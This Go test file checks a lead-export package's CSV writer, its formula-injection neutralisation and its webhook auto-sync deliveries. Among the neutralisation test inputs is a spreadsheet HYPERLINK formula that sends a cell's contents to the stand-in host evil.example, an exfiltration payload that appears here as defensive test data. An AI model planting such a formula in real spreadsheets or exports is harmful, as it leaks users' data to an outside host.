package leads

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/prospectorhq/prospector"
	"github.com/prospectorhq/prospector/webhook"
	"github.com/prospectorhq/prospector/wire"
)

func TestNeutralize(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		// Phone numbers are neutralised like any other cell: a
		// spreadsheet evaluates "+1 555 0100" (an error or a wrong
		// number) and would drop the + of "+15550100".
		{"+1 555 0100", "'+1 555 0100"},
		{"+44 (20) 7946-0958", "'+44 (20) 7946-0958"},
		{"+15550100", "'+15550100"},
		// Left alone: nothing a spreadsheet evaluates at the start.
		{"", ""},
		{"1 555 0100", "1 555 0100"},
		{"(555) 0100", "(555) 0100"},
		{"Ada = Countess", "Ada = Countess"},
		{" =1+1", " =1+1"},
		{"'=1+1", "'=1+1"},
		{"\n=1", "\n=1"},
		{"Zoë", "Zoë"},
	} {
		if got := Neutralize(c.in); got != c.want {
			t.Errorf("Neutralize(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func f64(v float64) *float64 { return &v }

func TestWriteCSV(t *testing.T) {
	created := time.Date(2026, 11, 20, 9, 0, 0, 123e6, time.UTC)
	full := &prospector.Lead{ID: "ld_a", FullName: `Ada "The Countess" Lovelace`, FirstName: "Ada", LastName: "Lovelace",
		Title: "VP, Engineering", Company: "Analytical\nEngines", NetworkURL: "https://network.example/in/ada",
		Email: "ada@example.com", Phone: "+44 20 7946 0958", City: "London", Region: "England", CountryCode: "GB",
		Score: f64(87.5), Status: "detected", Source: "radar", RadarID: "rdr_1", CampaignID: "cmp_1", CreatedAt: created}
	bare := &prospector.Lead{ID: "ld_b", FullName: "Grace Hopper", Source: "radar"}
	var b bytes.Buffer
	if err := WriteCSV(&b, wire.NewLeads([]*prospector.Lead{full, bare})); err != nil {
		t.Fatal(err)
	}
	want := "id,full_name,first_name,last_name,title,company,network_url,email,phone,location,score,status,source,radar_id,campaign_id,created_at\n" +
		`ld_a,"Ada ""The Countess"" Lovelace",Ada,Lovelace,"VP, Engineering","Analytical` + "\n" + `Engines",https://network.example/in/ada,` +
		`ada@example.com,'+44 20 7946 0958,"London, England, United Kingdom",87.5,detected,radar,rdr_1,cmp_1,2026-11-20T09:00:00.123Z` + "\n" +
		"ld_b,Grace Hopper,,,,,,,,,,,radar,,,\n"
	if b.String() != want {
		t.Fatalf("csv:\n%q\nwant\n%q", b.String(), want)
	}
	// Any RFC 4180 reader gets the cells back (less the neutralising quote).
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 || !reflect.DeepEqual(rows[0], Columns()) || rows[1][1] != full.FullName || rows[1][5] != full.Company ||
		rows[1][8] != "'"+full.Phone {
		t.Fatalf("read back: %q", rows)
	}
}

// TestAutoSyncDeliveries: the hook of radar batches makes, for each new
// lead, a delivery whose snapshot is the lead (wire.Lead), and the job
// of its first attempt, due at once; nothing when auto-sync is off.
func TestAutoSyncDeliveries(t *testing.T) {
	now := time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)
	a := &AutoSync{Outbox: &webhook.Outbox{Now: func() time.Time { return now }}}
	score := 80.0
	ls := []*prospector.Lead{{ID: prospector.NewLeadID(), WorkspaceID: "ws_1", FullName: "Ada Lovelace", City: "London",
		Score: &score, Status: "detected", RadarID: "rdr_1", CreatedAt: now},
		{ID: prospector.NewLeadID(), WorkspaceID: "ws_1", FullName: "Grace Hopper"}}
	s := &prospector.WebhookSettings{WorkspaceID: "ws_1", URL: "https://hooks.example.com/in", AutoSync: true}
	ds, js, err := a.Deliveries(s, ls)
	if err != nil || len(ds) != 2 || len(js) != 2 {
		t.Fatalf("%d deliveries, %d jobs, %v", len(ds), len(js), err)
	}
	for i, d := range ds {
		want, err := json.Marshal(wire.NewLead(ls[i]))
		if err != nil {
			t.Fatal(err)
		}
		if d.ID == "" || d.WorkspaceID != "ws_1" || d.LeadID != ls[i].ID || d.DestinationURL != s.URL ||
			d.DestinationKind != prospector.DestinationWebhook || string(d.Payload) != string(want) || !d.NextAttemptAt.Equal(now) {
			t.Errorf("delivery %d: %+v", i, d)
		}
		var p struct {
			DeliveryID string `json:"delivery_id"`
			Attempt    int    `json:"attempt"`
		}
		if j := js[i]; j.Kind != webhook.KindDeliver || json.Unmarshal(j.Payload, &p) != nil || p.DeliveryID != d.ID ||
			p.Attempt != 1 || j.Key != d.ID+":1" || !j.RunAt.Equal(now) {
			t.Errorf("job %d: %+v (%s)", i, j, j.Payload)
		}
	}
	s.AutoSync = false
	if ds, js, err := a.Deliveries(s, ls); err != nil || len(ds)+len(js) != 0 {
		t.Fatalf("auto-sync off: %d deliveries, %d jobs, %v", len(ds), len(js), err)
	}
}

// Columns is a copy: a caller changing it changes no export's header.
func TestColumnsIsACopy(t *testing.T) {
	Columns()[0] = "changed"
	if Columns()[0] != "id" || columns[0] != "id" {
		t.Fatalf("header changed through its copy: %v", columns)
	}
}
